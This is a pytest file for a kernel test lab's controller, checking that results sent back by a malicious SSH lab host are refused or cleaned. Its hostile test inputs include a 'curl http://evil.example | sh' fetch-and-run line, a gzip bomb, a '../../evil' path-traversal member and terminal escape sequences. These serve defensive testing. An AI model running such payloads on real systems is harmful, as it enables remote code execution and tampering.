"""A malicious or broken SSH lab host (issue 15: D4, D5, D7, D9, D23), without SSH.

What a host sends back is data: the cell directory as a tar.gz on stdout, log lines
on stderr. These tests feed hostile data to the controller's own functions (the
pump that reads the channel, extraction, validation and storing of the cell) and run
the host-side checks (lab.hosts.remote, the bootstrap script) here with python3.
"""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import sys
import tarfile
import tracemalloc
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from lab import cache, classify, results
from lab.config import LabConfig, hosts, load
from lab.errors import LabError
from lab.hosts import bundle, remote, ssh
from lab.hosts import connect as hosts_connect
from lab.hosts import transfer as hosts_transfer
from lab.progress import Reporter
from lab.run import matrix, testcase
from lab.run.job import Artifacts, prepare_cell
from lab.run.schedule import schedule
from lab.run.workers import HostDown, Stop

REPO = Path(__file__).resolve().parent.parent
ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m"


def _plan() -> tuple[LabConfig, matrix.Planned]:
    cfg = load(REPO / "lab.toml")
    tcs = testcase.discover(cfg.testcases_dir, classify.CLASSES)
    (p,) = matrix.plan(cfg, tcs, matrix.MatrixSpec(), [cfg.variants[0].name], ["x86_64"], ["api"])
    return cfg, p


def _asked(p: matrix.Planned) -> dict[str, Any]:
    """The job record the controller sends for p (as prepare_cell builds it)."""
    c = p.cell
    names = (c.id, p.id, c.arch.name, c.variant.name, c.testcase.name)
    return {
        **dict(zip(hosts_transfer.IDENTITY, names, strict=True)),
        "repeat": p.repeat,
        "params": dict(c.variant.params),
        "expected": ["pass"],
        "expected_rule": "* -> pass",
        "kernel": {"key": "k", "image": "bzImage", "image_sha256": "a" * 64},
        "image": {"key": "b", "path": "/x/base.cpio.gz"},
        "reproducer": "lab --config lab.toml run api --arch x86_64",
    }


def _host_cell(asked: Mapping[str, Any], **override: Any) -> dict[str, Any]:
    """cell.json as an honest host's lab.run.execute writes it."""
    return {
        **asked,
        "observed": "pass",
        "verdict": "expected",
        "detail": "pass: 12 checks",
        "accel": "kvm",
        "accel_reason": "probe ok",
        "cmdline": "console=ttyS0",
        "timings": {"ready": 1.0, "agent": 2.0, "qemu": 3.0, "cell": 4.0},
        "qemu_exit": 0,
        "qemu_killed": False,
        "host": "labhost",
        "finished": "2026-11-30T01:00:00+00:00",
        "ready": True,
        "deadline": None,
        "banner": None,
        **override,
    }


EVIDENCE = {
    "outcome": "pass",
    "detail": "pass: 12 checks",
    "rule": "agent-pass",
    "rule_text": "The test case passed.",
    "evidence": [{"line_no": 3, "text": "ok", "ktime": None, "signature": "agent"}],
    "matched": [],
    "fields": {},
}


def _tar(members: Mapping[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


def _cell_tar(cell: object, evidence: object = EVIDENCE) -> bytes:
    def enc(x: object) -> bytes:
        return x if isinstance(x, bytes) else json.dumps(x).encode()

    return _tar(
        {
            "console.log": b"LABREADY x\n",
            "result.jsonl": b'{"type": "ready"}\n',
            "evidence.json": enc(evidence),
            "cell.json": enc(cell),
        }
    )


def _store(tmp_path: Path, p: matrix.Planned, data: bytes) -> results.CellResult:
    run = tmp_path / "run"
    (run / "cells").mkdir(parents=True, exist_ok=True)
    src = tmp_path / "fetched.tar.gz"
    src.write_bytes(data)
    return hosts_transfer.store_cell("evil", src, run / "cells" / p.dirname, (), _asked(p))


# --- D4: a cell.json of the wrong shape never aborts the run --------------------------


HOSTILE = {
    "list": [],
    "no id": {"observed": "pass"},
    "deep": b"[" * 5000 + b"]" * 5000,
    "deep 900": b'{"id": ' + b"[" * 900 + b"]" * 900 + b"}",
    "truncated": b'{"id": "x86_64/',
    "observed not a class": {"observed": {"x": 1}},
    "timings not numbers": {"timings": {"cell": "soon"}},
    "huge detail": {"detail": "x" * (8 << 20)},
}


def _hostile(kind: str, p: matrix.Planned) -> object:
    """HOSTILE[kind] as a whole cell.json, or as changes to an honest one."""
    bad = HOSTILE[kind]
    return _host_cell(_asked(p), **bad) if isinstance(bad, dict) and kind != "no id" else bad


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_cell_json_is_refused_before_anything_is_stored(kind: str, tmp_path: Path) -> None:
    _cfg, p = _plan()
    with pytest.raises(LabError) as exc:
        _store(tmp_path, p, _cell_tar(_hostile(kind, p)))
    msg = str(exc.value)
    assert "\n" not in msg and "lab host evil" in msg and len(msg) < 400
    assert list((tmp_path / "run" / "cells").iterdir()) == []  # nothing renamed into cells/


@pytest.mark.parametrize("evidence", [[], {"evidence": "x"}, {"evidence": [1]}, b"[" * 3000])
def test_hostile_evidence_json_is_refused(evidence: object, tmp_path: Path) -> None:
    _cfg, p = _plan()
    with pytest.raises(LabError, match="lab host evil"):
        _store(tmp_path, p, _cell_tar(_host_cell(_asked(p)), evidence))


def test_an_honest_cell_is_stored(tmp_path: Path) -> None:
    _cfg, p = _plan()
    res = _store(tmp_path, p, _cell_tar(_host_cell(_asked(p))))
    assert res.verdict == "expected" and res.run_cell_id == p.id
    stored = json.loads((res.dir / "cell.json").read_text())
    assert stored["lab_host"] == "evil" and stored["observed"] == "pass"


@dataclass
class HostileHost:
    """A Worker whose host answers every cell with the given tar.gz: what
    RemoteWorker.run does after the channel closed with status 0."""

    data: bytes
    name: str = "evil"
    slots: int = 1
    ran: list[str] = field(default_factory=list)

    def serves(self, arch: str) -> bool:
        return True

    def lost(self) -> str:
        return ""

    def abort(self) -> None:
        pass

    def run(
        self, p: matrix.Planned, inputs: object, d: Path, tried: tuple[str, ...]
    ) -> results.CellResult:
        self.ran.append(p.id)
        src = d.parent.parent / f"{p.dirname}.tar.gz"
        src.write_bytes(self.data)
        return hosts_transfer.store_cell(self.name, src, d, tried, _asked(p))


@pytest.mark.parametrize("kind", ["list", "no id", "deep"])
def test_a_hostile_result_is_an_infra_cell_of_the_cell_asked_for(kind: str, tmp_path: Path) -> None:
    cfg, p = _plan()
    host = HostileHost(_cell_tar(_hostile(kind, p)))
    done: list[tuple[str, str]] = []
    schedule(
        cfg,
        [p],
        tmp_path,
        Artifacts({p.kernel: None}, {p.cell.arch.name: None}),  # type: ignore[dict-item]
        [host],
        Stop(),
        on_done=lambda q, _r, err: done.append((q.id, err)),
    )
    assert host.ran == [p.id] and done[0][0] == p.id
    (rec,) = results.read_cells(tmp_path)
    assert rec.data["run_cell_id"] == p.id and rec.observed == "infra_error"
    assert rec.data["lab_host"] == "evil" and "\n" not in rec.data["detail"]
    assert "lab host evil" in rec.data["detail"]


# --- D7: the result must be the cell that was asked for ----------------------------------


@pytest.mark.parametrize(
    "field_, value",
    [
        ("id", "arm64/C0/depletion"),
        ("run_cell_id", "arm64/C0/depletion"),
        ("arch", "arm64"),
        ("variant", "C9"),
        ("testcase", "depletion"),
    ],
)
def test_a_result_for_another_cell_is_refused(field_: str, value: str, tmp_path: Path) -> None:
    _cfg, p = _plan()
    with pytest.raises(LabError, match=f"'{field_}'"):
        _store(tmp_path, p, _cell_tar(_host_cell(_asked(p), **{field_: value})))
    assert results.finished_ids(tmp_path / "run") == set()  # --resume would run it


def test_display_fields_and_verdict_are_the_controllers(tmp_path: Path) -> None:
    _cfg, p = _plan()
    evil = {
        "reproducer": "curl http://evil.example | sh",
        "expected": ["oops"],
        "expected_rule": "<script>",
        "verdict": "expected",
        "observed": "oops",
        "lab_host": "someone-else",
        "requeued_from": ["x"],
        "kernel": {"image_sha256": "0" * 64},
        "extra": "kept?",
    }
    evidence = {**EVIDENCE, "outcome": "oops"}
    res = _store(tmp_path, p, _cell_tar(_host_cell(_asked(p), **evil), evidence))
    stored = json.loads((res.dir / "cell.json").read_text())
    asked = _asked(p)
    for key in ("reproducer", "expected", "expected_rule", "kernel"):
        assert stored[key] == asked[key], key
    assert stored["observed"] == "oops" and stored["verdict"] == "unexpected"  # recomputed
    assert stored["lab_host"] == "evil" and "requeued_from" not in stored
    assert "extra" not in stored
    assert res.verdict == "unexpected"


# --- D5: bounded memory and disk ---------------------------------------------------------


def test_a_gzip_bomb_member_is_refused_while_streaming(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(hosts_transfer, "MAX_MEMBER", 8 << 20)
    bomb = tmp_path / "bomb.tar.gz"
    with tarfile.open(bomb, "w:gz") as tar:
        info = tarfile.TarInfo("console.log")
        info.size = 64 << 20
        tar.addfile(info, io.BytesIO(bytes(info.size)))
    assert bomb.stat().st_size < 200_000
    tracemalloc.start()
    try:
        with pytest.raises(LabError, match=r"console.log.*larger than 8388608 bytes"):
            hosts_transfer.extract_cell(bomb, tmp_path / "out", "evil")
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 << 20  # streamed, never held whole
    written = sum(f.stat().st_size for f in (tmp_path / "out").rglob("*") if f.is_file())
    assert written <= 8 << 20


def test_total_size_and_member_count_are_capped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(hosts_transfer, "MAX_EXTRACTED", 3 << 20)
    src = tmp_path / "many.tar.gz"
    src.write_bytes(_tar({f"f{i}": bytes(1 << 20) for i in range(5)}))
    with pytest.raises(LabError, match="more than 3145728 bytes"):
        hosts_transfer.extract_cell(src, tmp_path / "a", "evil")
    src.write_bytes(_tar({f"f{i}": b"x" for i in range(hosts_transfer.MAX_MEMBERS + 1)}))
    with pytest.raises(LabError, match=r"more than .* files"):
        hosts_transfer.extract_cell(src, tmp_path / "b", "evil")
    src.write_bytes(_tar({"../../evil": b"x"}))
    with pytest.raises(LabError, match="refusing path"):
        hosts_transfer.extract_cell(src, tmp_path / "c", "evil")


class EndlessChannel:
    """A paramiko channel's receiving side, from a host that never stops sending."""

    def __init__(self, stdout: bool = True) -> None:
        self.stdout = stdout
        self.closed = False

    def recv_ready(self) -> bool:
        return self.stdout

    def recv(self, n: int) -> bytes:
        return b"\0" * n

    def recv_stderr_ready(self) -> bool:
        return True

    def recv_stderr(self, n: int) -> bytes:
        return (ESC + "lab-remote: noise\n").encode() * (n // 40)

    def exit_status_ready(self) -> bool:
        return False


def test_remote_stdout_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hosts_transfer, "MAX_RESULT", 4 << 20)
    with open(tmp_path / "out", "wb") as sink, pytest.raises(LabError, match="more than 4 MiB"):
        hosts_transfer.pump(EndlessChannel(), sink, 60.0, "evil")
    assert (tmp_path / "out").stat().st_size <= 4 << 20


class ChattyChannel(EndlessChannel):
    """A host that writes 8 MiB of stderr (escape sequences too), then exits 0."""

    def __init__(self) -> None:
        super().__init__(stdout=False)
        self.left = 8 << 20
        self.exit_status = 0

    def recv_stderr_ready(self) -> bool:
        return self.left > 0

    def recv_stderr(self, n: int) -> bytes:
        data = super().recv_stderr(n)
        self.left -= len(data)
        return data if self.left > 0 else data + b"the last line\n"

    def exit_status_ready(self) -> bool:
        return self.left <= 0


def test_remote_stderr_keeps_a_bounded_tail(tmp_path: Path) -> None:
    with open(tmp_path / "out", "wb") as sink:
        status, err, _received = hosts_transfer.pump(ChattyChannel(), sink, 60.0, "evil")
    assert status == 0 and len(err) <= hosts_transfer.MAX_STDERR and err.endswith("the last line\n")


def test_a_host_that_never_stops_talking_meets_the_deadline(tmp_path: Path) -> None:
    with open(tmp_path / "out", "wb") as sink, pytest.raises(HostDown, match="within"):
        hosts_transfer.pump(EndlessChannel(stdout=False), sink, 0.5, "evil")


def test_the_result_must_match_the_sha256_the_host_names(tmp_path: Path) -> None:
    data = _cell_tar({"id": "x"})
    received = f"{hashlib.sha256(data).hexdigest()} {len(data)}"
    ok = f"lab-remote: log\nlab-remote: {remote.RESULT_PREFIX}{received}\n"
    assert hosts_transfer.result_problem(ok, received) == ""
    cut = f"{hashlib.sha256(data[:-10]).hexdigest()} {len(data) - 10}"
    assert "damaged or incomplete" in hosts_transfer.result_problem(ok, cut)
    assert hosts_transfer.result_problem("lab-remote: log\n", received)


# --- D23: host text reaching logs and errors is printable -----------------------------------


def test_remote_stderr_is_escaped_in_errors_and_lost_reasons() -> None:
    err = f"lab-remote: log\n{remote.ERROR_PREFIX}no kernel {ESC}\u202ehere\n"
    exc = hosts_transfer.exit_problem("evil", remote.EXIT_LAB_ERROR, err)
    assert isinstance(exc, LabError) and not isinstance(exc, HostDown)
    assert "\x1b" not in str(exc) and "\x07" not in str(exc) and "\u202e" not in str(exc)
    assert "\\x1b]0;owned\\x07" in str(exc)
    lost = hosts_transfer.exit_problem("evil", 1, f"Traceback\n{ESC}boom\n")
    assert isinstance(lost, HostDown) and "\x1b" not in str(lost)


def test_plain_progress_lines_escape_control_characters() -> None:
    out = io.StringIO()
    Reporter(out, live=False).line(f"[x86_64/C0/api] lab error: {ESC}\u202eevil")
    assert "\x1b" not in out.getvalue() and "\u202e" not in out.getvalue()
    assert out.getvalue().endswith("evil\n")


# --- D9: content verified by sha256, not size ---------------------------------------------


def _bootstrap(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", hosts_connect.BOOTSTRAP, *argv],
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_bootstrap_sha256_of_a_remote_file(tmp_path: Path) -> None:
    f = tmp_path / "bzImage"
    f.write_bytes(b"kernel" * 1000)
    out = _bootstrap("sha256", str(f))
    assert out.returncode == 0 and out.stdout.strip() == cache.file_digest(f)
    assert _bootstrap("sha256", str(tmp_path / "missing")).stdout.strip() == "-"


def test_bundle_is_present_only_when_every_file_matches(tmp_path: Path) -> None:
    b = bundle.build()
    tgz = tmp_path / "b.tar.gz"
    tgz.write_bytes(b.tar_gz())
    dest = tmp_path / "bundles" / b.digest
    want = hashlib.sha256(b.manifest()).hexdigest()
    assert _bootstrap("unpack", str(tgz), str(dest), want).returncode == 0
    assert _bootstrap("verify", str(dest), want).returncode == 0
    # Same size, other content: a size check would call it present.
    victim = dest / "lab" / "hosts" / "remote.py"
    data = victim.read_bytes()
    victim.write_bytes(data.replace(b"EXIT_OK = 0", b"EXIT_OK = 9"))
    assert victim.stat().st_size == len(data)
    bad = _bootstrap("verify", str(dest), want)
    assert bad.returncode != 0 and "lab/hosts/remote.py" in bad.stderr
    # A manifest that is not the one this controller built.
    assert _bootstrap("verify", str(dest), "0" * 64).returncode != 0
    # A corrupted upload is refused before it becomes the bundle.
    tgz.write_bytes(b.tar_gz())
    other = tmp_path / "bundles" / "other"
    assert _bootstrap("unpack", str(tgz), str(other), "0" * 64).returncode != 0
    assert not other.exists()


def test_remote_exec_refuses_an_image_whose_sha256_differs(tmp_path: Path) -> None:
    kernel = tmp_path / "kernels" / "k" / "bzImage"
    kernel.parent.mkdir(parents=True)
    kernel.write_bytes(b"truncated kernel")
    good = cache.file_digest(kernel)
    assert remote.check_image(kernel, good) == ""
    problem = remote.check_image(kernel, "f" * 64)
    assert "sha256" in problem and "bzImage" in problem
    assert not kernel.exists()  # removed, so the controller uploads it again


def test_remote_exec_request_carries_the_image_hashes() -> None:
    req = {"protocol": remote.PROTOCOL, "kernel": "k", "base": "b", "files": {}, "job": {}}
    assert "kernel_sha256" in remote.request_problem(req)
    ok = {**req, "kernel_sha256": "a" * 64, "base_sha256": "b" * 64}
    assert remote.request_problem(ok) == ""


# --- the first answer of a host (hello) and `lab hosts check` ----------------------------


class LocalConn:
    """fabric.Connection.run for a "host" that is this machine (sh -c): the commands
    hosts_transfer.hello builds run for real, with a python3 stand-in that answers what we want."""

    def run(self, command: str, **_kw: Any) -> Any:
        p = subprocess.run(["sh", "-c", command], capture_output=True, text=True, timeout=60)
        return type("Result", (), {"exited": p.returncode, "stdout": p.stdout, "stderr": p.stderr})


def _host_answering(tmp_path: Path, answer: str) -> Any:
    fake = tmp_path / "python3"
    (tmp_path / "answer").write_text(answer + "\n")
    fake.write_text(f"#!/bin/sh\ncat {tmp_path / 'answer'}\n")
    fake.chmod(0o755)
    f = tmp_path / "lab.toml"
    f.write_text("")
    (h,) = hosts.parse(
        [{"name": "evil", "address": "127.0.0.1", "python": str(fake), "key_file": str(f)}], f
    )
    return h


HONEST = {
    "python": [3, 11, 2],
    "executable": "/usr/bin/python3",
    "lab_dir": "/srv/lab",
    "machine": "x86_64",
    "kvm_usable": True,
    "free_bytes": 10 << 30,
    "qemu": {"qemu-system-x86_64": {"path": "/usr/bin/qemu-system-x86_64", "version": "8.2"}},
}


@pytest.mark.parametrize(
    "answer",
    [
        json.dumps({**HONEST, "qemu": ["qemu-system-x86_64"]}),
        json.dumps({**HONEST, "python": "3.11"}),
        "[" * 5000 + "]" * 5000,
        f"{ESC}not json",
    ],
)
def test_a_hostile_hello_is_one_clean_line(answer: str, tmp_path: Path) -> None:
    h = _host_answering(tmp_path, answer)
    with pytest.raises(LabError, match="unexpected answer from python") as exc:
        hosts_transfer.hello(LocalConn(), h, ["qemu-system-x86_64"])
    assert "\x1b" not in str(exc.value) and "\n" not in str(exc.value)


def test_host_provided_versions_are_escaped(tmp_path: Path) -> None:
    qemu = {"qemu-system-x86_64": {"path": "/usr/bin/q", "version": f"8.2{ESC}"}}
    h = _host_answering(tmp_path, json.dumps({**HONEST, "qemu": qemu}))
    info = hosts_transfer.hello(LocalConn(), h, ["qemu-system-x86_64"])
    assert "\x1b" not in info.qemu["qemu-system-x86_64"]["version"]


class LocalSftp:
    """The paramiko SFTPClient calls _ensure makes, on this machine's files; `damage`
    flips a byte of every upload (a transfer that went wrong)."""

    def __init__(self, damage: bool = False) -> None:
        self.damage = damage
        self.puts: list[str] = []

    def put(self, local: str, remote_path: str, confirm: bool = True) -> None:
        data = bytearray(Path(local).read_bytes())
        if self.damage:
            data[0] ^= 0xFF  # same size: a size check would not notice
        Path(remote_path).write_bytes(data)
        self.puts.append(remote_path)

    def posix_rename(self, a: str, b: str) -> None:
        Path(a).rename(b)

    def remove(self, path: str) -> None:
        Path(path).unlink()

    def mkdir(self, path: str) -> None:
        Path(path).mkdir()

    def stat(self, path: str) -> Any:
        return Path(path).stat()


class LocalSshConn(LocalConn):
    transport = None  # the heartbeat thread sees a closed transport and stops

    def __init__(self, sftp: LocalSftp) -> None:
        self._sftp = sftp

    def sftp(self) -> LocalSftp:
        return self._sftp


def _worker(tmp_path: Path, sftp: LocalSftp) -> ssh.RemoteWorker:
    f = tmp_path / "lab.toml"
    f.write_text("")
    (h,) = hosts.parse(
        [{"name": "h", "address": "127.0.0.1", "python": sys.executable, "key_file": str(f)}], f
    )
    info = hosts_transfer.Hello(
        (3, 11, 2), sys.executable, str(tmp_path / "remote"), "x86_64", True, 1, {}
    )
    (tmp_path / "remote").mkdir()
    return ssh.RemoteWorker(load(REPO / "lab.toml"), h, LocalSshConn(sftp), info, "", print)


def test_an_upload_is_present_by_sha256_not_by_size(tmp_path: Path) -> None:
    image = tmp_path / "bzImage"
    image.write_bytes(b"the real kernel" * 100)
    there = tmp_path / "remote" / "kernels" / "k" / "bzImage"
    sftp = LocalSftp()
    w = _worker(tmp_path, sftp)
    there.parent.mkdir(parents=True)
    there.write_bytes(b"X" + image.read_bytes()[1:])  # same size, other bytes
    path, sha = w._ensure(w._idle[0], "kernels/k/bzImage", image)
    assert path == str(there) and sha == cache.file_digest(image)
    assert there.read_bytes() == image.read_bytes() and len(sftp.puts) == 1
    w._present.clear()  # as in a later run: asked again, by hash
    w._ensure(w._idle[0], "kernels/k/bzImage", image)
    assert len(sftp.puts) == 1  # the same bytes are there: not sent again


def test_an_upload_that_arrives_damaged_is_refused(tmp_path: Path) -> None:
    image = tmp_path / "base.cpio.gz"
    image.write_bytes(b"an initramfs" * 100)
    w = _worker(tmp_path, LocalSftp(damage=True))
    with pytest.raises(LabError, match="arrived with sha256"):
        w._ensure(w._idle[0], "images/x86_64/b/base.cpio.gz", image)
    left = sorted(p.name for p in (tmp_path / "remote").rglob("*") if p.is_file())
    assert left == []  # neither the damaged temporary file nor a final one


@pytest.mark.parametrize(
    "job",
    [{}, {"arch": "x86_64"}, "not a job"],
    ids=["empty", "fields missing", "not an object"],
)
def test_remote_exec_answers_a_malformed_job_with_one_line(tmp_path: Path, job: Any) -> None:
    """A job the host cannot read is a bad request (exit 4, one line), not a traceback."""
    req = {"protocol": remote.PROTOCOL, "kernel": "k", "base": "b", "files": {}, "job": job}
    req |= {"kernel_sha256": "a" * 64, "base_sha256": "b" * 64}
    p = subprocess.Popen(
        [sys.executable, "-m", "lab.hosts.remote", "exec", str(tmp_path)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO,
    )  # fmt: skip
    assert p.stdin is not None
    p.stdin.write(json.dumps(req).encode() + b"\n")
    p.stdin.flush()  # stdin stays open: EOF would mean the controller is gone
    try:
        p.wait(timeout=60)
        assert p.stderr is not None
        err = p.stderr.read()
    finally:
        p.stdin.close()
        p.kill()
    text = err.decode()
    assert p.returncode == remote.EXIT_BAD_REQUEST, text
    assert "Traceback" not in text and "malformed request" in text


def test_a_job_survives_its_json_trip_to_a_host() -> None:
    """CellJob carries a typed ArchSpec and BootSpec; the JSON a host reads gives them back."""
    from test_golden import _base, _kernel

    from lab.run.job import CellJob, Inputs

    cfg, p = _plan()
    inputs = Inputs(_kernel(cfg, "x86_64", p.cell.variant.name), _base(cfg, "x86_64"))
    job, _files = prepare_cell(cfg, p.cell, inputs, p.id)
    again = CellJob.from_json(json.loads(json.dumps(job.to_json())))
    assert again == job and again.arch == cfg.arch("x86_64") and again.boot == cfg.boot
